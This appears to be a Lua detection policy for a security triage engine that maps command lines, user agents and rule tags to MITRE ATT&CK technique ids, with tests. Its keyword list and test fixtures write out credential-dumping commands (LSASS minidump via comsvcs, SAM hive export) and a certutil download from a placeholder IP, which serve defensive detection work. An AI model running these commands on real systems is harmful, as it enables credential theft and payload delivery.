-- The techniques of a threat: what the rule says, what the events say of themselves, and what an analysis added, each
-- with where it comes from. Ids that are not in rules/lists/attack.csv are left out by the engine.
local facts = require "triage.facts"

local confidence = { rule = 1, event = 0.7, analysis = 0.5 }
local hinted = 0.4 -- where only the words of a command or a program's name speak

-- What a command line says when all of these stand in it. Few, and those that hardly mean anything else.
local commands = {
  { "T1003.001", "comsvcs", "minidump" },
  { "T1003.001", "procdump", "lsass" },
  { "T1003.002", "reg", " save ", "\\sam" },
  { "T1053.005", "schtasks", "/create" },
  { "T1059.001", "powershell", " -enc" },
  { "T1059.001", "powershell", " -e ", "hidden" },
  { "T1070.001", "wevtutil", " cl " },
  { "T1105", "certutil", "urlcache" },
  { "T1136.001", "net", " user ", "/add" },
  { "T1197", "bitsadmin", "/transfer" },
  { "T1218.010", "regsvr32", "scrobj" },
  { "T1490", "vssadmin", "delete", "shadows" },
}
local scanners = { "sqlmap", "nikto", "masscan", "wpscan", "nuclei", "gobuster", "dirbuster" }

local function says(text, command)
  for i = 2, #command do
    if not text:find(command[i], 1, true) then return false end
  end
  return true
end

-- Ids that the events show without naming them.
local function hints(events, add)
  for i, hit in ipairs(facts.values(events, "process.command_line")) do
    if i > 10 then break end
    local text = hit.value:lower()
    for _, command in ipairs(commands) do
      if says(text, command) then add(command[1], "event", hinted) end
    end
  end
  for i, hit in ipairs(facts.values(events, "user_agent.original")) do
    if i > 10 then break end
    local text = hit.value:lower()
    for s = 1, #scanners do
      if text:find(scanners[s], 1, true) then add("T1595.002", "event", hinted) end
    end
  end
end

local function is_technique(id)
  return id:find("^T%d%d%d%d$") ~= nil or id:find("^T%d%d%d%d%.%d%d%d$") ~= nil or id:find("^TA%d%d%d%d$") ~= nil
end

local named_in = { "threat.technique.subtechnique.id", "threat.technique.id", "threat.tactic.id", "rule.mitre.id" }

-- What an earlier look added stands among the tags by now; it keeps where it came from.
local function earlier_of(threat)
  local earlier = {}
  for _, item in ipairs(facts.table(threat.mitre)) do
    local id = facts.text(facts.table(item).id)
    if id and confidence[item.source] then earlier[id] = item end
  end
  return earlier
end

return policy {
  name = "mitre",
  decide = function(threat, context)
    local found, seen, earlier, events = {}, {}, earlier_of(threat), facts.events(threat)
    local function add(value, source, sure)
      local id = facts.text(value)
      if not id or #id > 9 or seen[id] or not is_technique(id) or #found >= 10 then return end
      seen[id] = true
      found[#found + 1] = { id = id, source = source, confidence = sure or confidence[source] }
    end
    for _, id in ipairs(facts.table(threat.mitre_tags)) do
      local before = earlier[facts.text(id) or ""]
      local sure = before and facts.number(before.confidence)
      add(id, before and before.source or "rule", sure and sure >= 0 and sure <= 1 and sure or nil)
    end
    for i = 1, #named_in do
      for _, hit in ipairs(facts.values(events, named_in[i])) do add(hit.value, "event") end
    end
    hints(events, add)
    for _, id in ipairs(facts.table(facts.table(context.analysis).mitre)) do
      add(type(id) == "table" and id.id or id, "analysis")
    end
    return found
  end,
  tests = {
    { "the rule, then the event, then the analysis",
      threat = { mitre_tags = { "T1621" }, evidence = { { id = "E1",
      context = { ["threat.technique.id"] = { "T1110", "T1621" } } } } },
      context = { analysis = { mitre = { "T1078" } } },
      expect = { { id = "T1621", source = "rule", confidence = 1 }, { id = "T1110", source = "event" },
                 { id = "T1078", source = "analysis", confidence = 0.5 } } },
    { "what came from an analysis stays marked so",
      threat = { mitre_tags = { "T1078" }, mitre = { { id = "T1078", source = "analysis" } } },
      expect = { { id = "T1078", source = "analysis" } } },
    { "and stays as sure as it was",
      threat = { mitre_tags = { "T1105", "T1078" }, mitre = { { id = "T1105", source = "event", confidence = 0.4 },
          { id = "T1078", source = "somebody", confidence = 9 } } },
      expect = { { id = "T1105", source = "event", confidence = 0.4 }, { id = "T1078", source = "rule",
          confidence = 1 } } },
    { "commands that mean little else", threat = { mitre_tags = { "T1003.002" }, evidence = {
        { id = "E1", context = { ["process.command_line"] = "reg.exe SAVE HKLM\\SAM C:\\s.hiv" } },
        { id = "E2", context = { ["process.command_line"] = { "rundll32 comsvcs.dll, MiniDump 712 l.dmp full",
            "certutil -urlcache -f http://203.0.113.9/a a" } } } } },
      expect = { { id = "T1003.002", source = "rule" }, { id = "T1003.001", source = "event", confidence = 0.4 },
          { id = "T1105", confidence = 0.4 } } },
    { "ordinary work is none of them", threat = { evidence = { { id = "E1", context = {
        ["process.command_line"] = { "powershell -File backup.ps1", "reg query HKLM\\SAM", "net user ana",
            "schtasks /query", "certutil -hashfile a SHA256", "vssadmin list shadows" },
        ["user_agent.original"] = "Mozilla/5.0 (X11; Linux x86_64)" } } } }, expect = {} },
    { "a scanner that says so", threat = { evidence = { { id = "E1", context = {
        ["user_agent.original"] = "sqlmap/1.7.2#stable" } } } }, expect = { { id = "T1595.002", source = "event" } } },
    { "more than ten are cut", threat = { mitre_tags = { "T1001", "T1003", "T1005", "T1006", "T1007", "T1008",
        "T1010", "T1011", "T1012", "T1014", "T1016" } },
      expect = { {id = "T1001"}, {id = "T1003"}, {id = "T1005"}, {id = "T1006"}, {id = "T1007"}, {id = "T1008"},
          {id = "T1010"}, {id = "T1011"}, {id = "T1012"}, {id = "T1014"} } },
    { "values of other types", threat = { mitre_tags = "T1078", mitre = { 5, { id = {}, source = {} } },
        evidence = { { context = { ["process.command_line"] = 7, ["threat.technique.id"] = { {}, 1, "T1110" } } } } },
      context = { analysis = { mitre = { {}, { id = 7 }, "T1621" } } },
      expect = { { id = "T1110", source = "event" }, { id = "T1621", source = "analysis" } } },
    { "what is no id is left out", threat = { mitre_tags = { "T16211", "', DROP", 5 } }, expect = {} },
    { "an empty threat has none", threat = {}, expect = {} },
  },
}
